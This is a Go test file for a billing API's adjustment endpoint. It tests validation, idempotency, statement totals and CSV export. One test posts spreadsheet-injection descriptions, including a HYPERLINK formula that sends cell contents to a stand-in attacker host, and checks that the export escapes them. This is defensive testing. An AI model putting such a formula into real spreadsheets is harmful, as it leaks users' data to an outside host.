package httpapi_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"chargeback/internal/billing"
)

// adjustmentBody is a POST /v1/adjustments body with the given fields
// replacing those of a valid one; a nil value drops the field.
func adjustmentBody(t testing.TB, change map[string]any) string {
	t.Helper()
	fields := map[string]any{"department": "radiology", "month": "2026-03", "amount": "-12.50", "description": "Credit for PACS downtime"}
	for k, v := range change {
		if v == nil {
			delete(fields, k)
		} else {
			fields[k] = v
		}
	}
	var parts []string
	for k, v := range fields {
		if raw, ok := v.(rawJSON); ok {
			parts = append(parts, fmt.Sprintf("%q: %s", k, raw))
		} else {
			parts = append(parts, fmt.Sprintf("%q: %s", k, jsonString(t, v.(string))))
		}
	}
	return "{" + strings.Join(parts, ", ") + "}"
}

// jsonString is s as a JSON string.
func jsonString(t testing.TB, s string) string {
	t.Helper()
	b, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// rawJSON is a field value written into a body as it is (a JSON number).
type rawJSON string

// TestAdjustmentValidation: every bad field is a 400 naming it, and
// nothing is posted. Now is 2026-03-02.
func TestAdjustmentValidation(t *testing.T) {
	e := newEnv(t)
	other := e.create(t, pharmacy, `{"service_id": "barcode-scanner", "quantity": 1}`)["id"].(string)
	own := e.create(t, radiology, `{"service_id": "barcode-scanner", "quantity": 1}`)["id"].(string)
	tests := []struct {
		name   string
		change map[string]any
		field  string
	}{
		{"missing department", map[string]any{"department": nil}, "department"},
		{"empty department", map[string]any{"department": ""}, "department"},
		{"unknown department", map[string]any{"department": "astrology"}, "department"},
		{"missing month", map[string]any{"month": nil}, "month"},
		{"month 13", map[string]any{"month": "2026-13"}, "month"},
		{"one-digit month", map[string]any{"month": "2026-3"}, "month"},
		{"a date, not a month", map[string]any{"month": "2026-03-01"}, "month"},
		{"month not begun", map[string]any{"month": "2026-04"}, "month"},
		{"missing amount", map[string]any{"amount": nil}, "amount"},
		{"null amount", map[string]any{"amount": rawJSON("null")}, "amount"},
		{"amount 0", map[string]any{"amount": rawJSON("0")}, "amount"},
		{"amount \"0.00\"", map[string]any{"amount": "0.00"}, "amount"},
		{"amount -0.00", map[string]any{"amount": rawJSON("-0.00")}, "amount"},
		{"3 decimals", map[string]any{"amount": "12.345"}, "amount"},
		{"3 decimals as a number", map[string]any{"amount": rawJSON("0.001")}, "amount"},
		{"exponent", map[string]any{"amount": rawJSON("1e3")}, "amount"},
		{"exponent in a string", map[string]any{"amount": "1E3"}, "amount"},
		{"not a number", map[string]any{"amount": "twelve"}, "amount"},
		{"a boolean", map[string]any{"amount": rawJSON("true")}, "amount"},
		{"huge", map[string]any{"amount": "1000000000"}, "amount"},
		{"huge negative", map[string]any{"amount": rawJSON("-1000000000.00")}, "amount"},
		{"missing description", map[string]any{"description": nil}, "description"},
		{"empty description", map[string]any{"description": ""}, "description"},
		{"blank description", map[string]any{"description": " \n\t "}, "description"},
		{"zero width space description", map[string]any{"description": "\u200b"}, "description"},
		{"invisible description", map[string]any{"description": "\u200b\u2060\ufeff \u3164"}, "description"},
		{"description of 501 characters", map[string]any{"description": strings.Repeat("é", 501)}, "description"},
		{"description with a bell", map[string]any{"description": "credit\afor downtime"}, "description"},
		{"description with a terminal escape", map[string]any{"description": "\x1b[31mcredit"}, "description"},
		{"description with a NUL", map[string]any{"description": "credit\x00"}, "description"},
		{"description with a direction override", map[string]any{"description": "credit \u202Eecnalab"}, "description"},
		{"unknown service", map[string]any{"service_id": "teleporter"}, "service_id"},
		{"request of another department", map[string]any{"request_id": other}, "request_id"},
		{"request that does not exist", map[string]any{"request_id": "01KZZZZZZZZZZZZZZZZZZZZZZZ"}, "request_id"},
		{"request id that is no id", map[string]any{"request_id": "../REQ#x"}, "request_id"},
		{"request of the department, another service", map[string]any{"request_id": own, "service_id": "vpn-access"}, "service_id"},
		{"request of the department, an unknown service", map[string]any{"request_id": own, "service_id": "teleporter"}, "service_id"},
		{"unknown field", map[string]any{"colour": "red"}, "colour"},
		{"field in another case", map[string]any{"Amount": "5.00"}, "Amount"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			mustField(t, e.do(t, finance, "POST", "/v1/adjustments", adjustmentBody(t, tt.change)), tt.field)
		})
	}
	t.Run("several bad fields at once", func(t *testing.T) {
		res := e.do(t, finance, "POST", "/v1/adjustments", `{"department": "astrology", "month": "2026-3", "amount": "0", "description": ""}`)
		got := problemFields(t, res)
		if diff := cmp.Diff([]string{"department", "month", "amount", "description"}, got); diff != "" {
			t.Errorf("fields (-want +got):\n%s", diff)
		}
	})
	for _, body := range []string{"", "[]", `{"department": "radiology",}`, `{"amount": 5} {}`} {
		t.Run("malformed body "+body, func(t *testing.T) {
			if res := e.do(t, finance, "POST", "/v1/adjustments", body); res.status != 400 {
				t.Errorf("got %d, want 400\n%s", res.status, res.body)
			}
		})
	}
	for _, m := range []string{"2026-02", "2026-03"} {
		if n := len(e.lines(t, m, "radiology")) + len(e.lines(t, m, "pharmacy")); n != 0 {
			t.Errorf("%s: got %d lines posted by refused adjustments, want 0", m, n)
		}
	}
}

// TestAdjustmentLimits: the largest amounts and longest description still
// post, with the amount exactly as given.
func TestAdjustmentLimits(t *testing.T) {
	e := newEnv(t)
	tests := []struct {
		name       string
		change     map[string]any
		wantAmount string
	}{
		{"largest positive", map[string]any{"amount": "999999999.99"}, "999999999.99"},
		{"largest negative", map[string]any{"amount": rawJSON("-999999999.99")}, "-999999999.99"},
		{"a cent", map[string]any{"amount": rawJSON("0.01")}, "0.01"},
		{"trailing zeros", map[string]any{"amount": "7.500"}, "7.50"},
		{"500 characters", map[string]any{"description": strings.Repeat("é", 500)}, "-12.50"},
		{"newlines and tabs", map[string]any{"description": "line one\n\tline two"}, "-12.50"},
		{"an earlier open month", map[string]any{"month": "2026-01"}, "-12.50"},
		{"an inactive department", map[string]any{"department": "transcription"}, "-12.50"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := e.do(t, finance, "POST", "/v1/adjustments", adjustmentBody(t, tt.change))
			if res.status != 201 {
				t.Fatalf("got %d, want 201\n%s", res.status, res.body)
			}
			if got := res.json(t)["amount"]; got != tt.wantAmount {
				t.Errorf("amount: got %v, want %s", got, tt.wantAmount)
			}
		})
	}
}

// TestAdjustmentIntoAClosedOrClosingMonth: a month that is closed, or
// being closed, takes no adjustment, and nothing is posted.
func TestAdjustmentIntoAClosedOrClosingMonth(t *testing.T) {
	e := newEnv(t)
	e.closeMonth(t, "2026-01")
	feb, _ := billing.ParseMonth("2026-02")
	if err := e.store.MovePeriod(context.Background(), feb, billing.PeriodOpen, billing.PeriodClosing); err != nil {
		t.Fatal(err)
	}
	for _, m := range []string{"2026-01", "2026-02"} {
		t.Run(m, func(t *testing.T) {
			res := e.do(t, finance, "POST", "/v1/adjustments", adjustmentBody(t, map[string]any{"month": m}), "Idempotency-Key", "k-"+m)
			mustCode(t, res, 409, "period_closed")
			if n := len(e.lines(t, m, "radiology")); n != 0 {
				t.Errorf("lines: got %d, want 0", n)
			}
		})
	}
	// A refused write keeps no reply: the key is still free for a month
	// that is open.
	res := e.do(t, finance, "POST", "/v1/adjustments", adjustmentBody(t, map[string]any{"month": "2026-03"}), "Idempotency-Key", "k-2026-01")
	if res.status != 201 {
		t.Errorf("the key of a refused adjustment, other body: got %d, want 201\n%s", res.status, res.body)
	}
}

// TestIdempotentAdjustment: the same key and body post one line and answer
// the first response again; the same key with another body is 422.
func TestIdempotentAdjustment(t *testing.T) {
	e := newEnv(t)
	body := `{"department": "pharmacy", "month": "2026-03", "amount": "-37.10", "description": "Refund of a duplicate licence"}`
	first := e.do(t, finance, "POST", "/v1/adjustments", body, "Idempotency-Key", "adj-1")
	if first.status != 201 {
		t.Fatalf("first: got %d, want 201\n%s", first.status, first.body)
	}
	id := first.json(t)["line_id"]
	tests := []struct {
		name       string
		who        caller
		body, key  string
		wantStatus int
		wantSame   bool
	}{
		{"same body", finance, body, "adj-1", 201, true},
		{"same body again", finance, body, "adj-1", 201, true},
		{"same content spelled differently", finance, `{"description": "Refund of a duplicate licence", "amount": -37.1, "month": "2026-03", "department": "pharmacy"}`, "adj-1", 201, true},
		{"other amount", finance, strings.Replace(body, "-37.10", "-37.11", 1), "adj-1", 422, false},
		{"other department", finance, strings.Replace(body, "pharmacy", "radiology", 1), "adj-1", 422, false},
		{"other description", finance, strings.Replace(body, "duplicate", "second", 1), "adj-1", 422, false},
		{"other key", finance, body, "adj-2", 201, false},
		{"other caller, same key", leadership, body, "adj-1", 201, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := e.do(t, tt.who, "POST", "/v1/adjustments", tt.body, "Idempotency-Key", tt.key)
			if res.status != tt.wantStatus {
				t.Fatalf("got %d, want %d\n%s", res.status, tt.wantStatus, res.body)
			}
			if tt.wantStatus == 422 {
				if code := res.json(t)["code"]; code != "idempotency_key_reused" {
					t.Errorf("code: got %v, want idempotency_key_reused", code)
				}
				return
			}
			if same := res.json(t)["line_id"] == id; same != tt.wantSame {
				t.Errorf("same line id as the first: got %v, want %v", same, tt.wantSame)
			}
			if tt.wantSame && (res.body != first.body || res.headers["Location"] != first.headers["Location"]) {
				t.Errorf("replay: got %s %q, want %s %q", res.body, res.headers["Location"], first.body, first.headers["Location"])
			}
		})
	}
	// The first line once, plus "other key" and "other caller": 3 lines.
	count := map[string]int{}
	for _, l := range e.lines(t, "2026-03", "pharmacy") {
		count[l.ID]++
	}
	if count[id.(string)] != 1 || len(count) != 3 {
		t.Errorf("lines posted: got %v, want %s once and 2 others", count, id)
	}
	if n := len(e.lines(t, "2026-03", "radiology")); n != 0 {
		t.Errorf("radiology lines: got %d, want 0 (its body reused a key)", n)
	}
}

// TestAdjustmentsOnTheStatement: positive and negative adjustments appear
// with the exact amount, kind and references, and sum into the total and
// the service totals.
func TestAdjustmentsOnTheStatement(t *testing.T) {
	e := newEnv(t)
	req := e.create(t, pharmacy, `{"service_id": "barcode-scanner", "quantity": 1}`)["id"].(string)
	posts := []struct{ body, wantAmount string }{
		{`{"department": "pharmacy", "month": "2026-03", "amount": 150.25, "description": "Licence true-up", "service_id": "vpn-access"}`, "150.25"},
		{`{"department": "pharmacy", "month": "2026-03", "amount": "-37.1", "description": "Scanner refund", "request_id": "` + req + `"}`, "-37.10"},
		{`{"department": "pharmacy", "month": "2026-03", "amount": "-0.01", "description": "Rounding"}`, "-0.01"},
	}
	ids := map[string]string{}
	for _, p := range posts {
		got := e.must(t, 201, finance, "POST", "/v1/adjustments", p.body)
		ids[got["line_id"].(string)] = p.wantAmount
	}
	st := e.must(t, 200, pharmacy, "GET", "/v1/statements/2026-03/pharmacy", "")
	// 150.25 − 37.10 − 0.01 = 113.14.
	if st["total"] != "113.14" {
		t.Errorf("total: got %v, want 113.14", st["total"])
	}
	lines := st["lines"].([]any)
	if len(lines) != 3 {
		t.Fatalf("lines: got %d, want 3", len(lines))
	}
	for _, l := range lines {
		line := l.(map[string]any)
		id := line["line_id"].(string)
		if line["amount"] != ids[id] || line["kind"] != "adjustment" || line["cost_center"] != "CC-4200" {
			t.Errorf("line %s: got amount %v kind %v cost center %v, want %s adjustment CC-4200", id, line["amount"], line["kind"], line["cost_center"], ids[id])
		}
		if line["quantity"] != nil || line["unit"] != nil || line["unit_price"] != nil || line["days"] != nil {
			t.Errorf("line %s: got quantity %v unit %v unit_price %v days %v, want all null", id, line["quantity"], line["unit"], line["unit_price"], line["days"])
		}
		switch line["description"] {
		case "Licence true-up":
			if line["service_id"] != "vpn-access" || line["service_name"] == nil || line["request_id"] != nil {
				t.Errorf("service adjustment: got %v", line)
			}
		case "Scanner refund":
			// Naming only the request, it takes the request's service.
			if line["request_id"] != req || line["service_id"] != "barcode-scanner" || line["service_name"] == nil {
				t.Errorf("request adjustment: got %v", line)
			}
		}
	}
	wantByService := []any{
		map[string]any{"service_id": "barcode-scanner", "total": "-37.10"},
		map[string]any{"service_id": "vpn-access", "total": "150.25"},
		map[string]any{"service_id": nil, "total": "-0.01"},
	}
	if diff := cmp.Diff(wantByService, st["by_service"]); diff != "" {
		t.Errorf("by_service (-want +got):\n%s", diff)
	}
	month := e.must(t, 200, finance, "GET", "/v1/statements/2026-03", "")
	if month["total"] != "113.14" {
		t.Errorf("month total: got %v, want 113.14", month["total"])
	}
}

// TestAdjustmentDescriptionIsSafeInCSV: a description a spreadsheet would
// run as a formula comes out of the CSV with a leading apostrophe, and
// unchanged in JSON.
func TestAdjustmentDescriptionIsSafeInCSV(t *testing.T) {
	e := newEnv(t)
	descriptions := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Click for details")`,
		"+SUM(1,2)",
		"-2+3",
		"@cmd",
		"\t=1+1",
		"Plain text = no formula",
	}
	for _, d := range descriptions {
		body := fmt.Sprintf(`{"department": "laboratory", "month": "2026-03", "amount": "1.00", "description": %s}`, jsonString(t, d))
		e.must(t, 201, finance, "POST", "/v1/adjustments", body)
	}
	res := e.do(t, finance, "GET", "/v1/statements/2026-03/laboratory?format=csv", "")
	if res.status != 200 || !strings.HasPrefix(res.headers["Content-Type"], "text/csv") {
		t.Fatalf("CSV: got %d %q", res.status, res.headers["Content-Type"])
	}
	rows, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, res.body)
	}
	var got []string
	for _, row := range rows[1:] {
		got = append(got, row[8]) // description
	}
	want := map[string]bool{}
	for _, d := range descriptions {
		if strings.ContainsRune("=+-@\t", rune(d[0])) {
			d = "'" + d
		}
		want[d] = true
	}
	for _, d := range got {
		if !want[d] {
			t.Errorf("CSV description %q is not one of the guarded ones %v", d, want)
		}
		delete(want, d)
	}
	if len(want) != 0 {
		t.Errorf("CSV descriptions missing: %v", want)
	}
	st := e.must(t, 200, finance, "GET", "/v1/statements/2026-03/laboratory", "")
	for _, l := range st["lines"].([]any) {
		if d := l.(map[string]any)["description"].(string); strings.HasPrefix(d, "'") {
			t.Errorf("JSON description: got %q, want it as posted", d)
		}
	}
}

// TestAdjustmentTakesItsRequestsService: an adjustment that names a
// request corrects that request's service, whether it names the service
// too or not; naming another service is refused (TestAdjustmentValidation).
func TestAdjustmentTakesItsRequestsService(t *testing.T) {
	e := newEnv(t)
	req := e.create(t, pharmacy, `{"service_id": "barcode-scanner", "quantity": 1}`)["id"].(string)
	tests := []struct {
		name   string
		change map[string]any
		want   map[string]any
	}{
		{"only the request", map[string]any{"request_id": req},
			map[string]any{"request_id": req, "service_id": "barcode-scanner", "service_name": "Barcode scanner"}},
		{"the request and its service", map[string]any{"request_id": req, "service_id": "barcode-scanner"},
			map[string]any{"request_id": req, "service_id": "barcode-scanner", "service_name": "Barcode scanner"}},
		{"only a service", map[string]any{"service_id": "vpn-access"},
			map[string]any{"request_id": nil, "service_id": "vpn-access", "service_name": "VPN remote access"}},
		{"neither", nil,
			map[string]any{"request_id": nil, "service_id": nil, "service_name": nil}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			change := map[string]any{"department": "pharmacy"}
			maps.Copy(change, tt.change)
			line := e.must(t, 201, finance, "POST", "/v1/adjustments", adjustmentBody(t, change))
			got := map[string]any{"request_id": line["request_id"], "service_id": line["service_id"], "service_name": line["service_name"]}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("line (-want +got):\n%s", diff)
			}
		})
	}
}
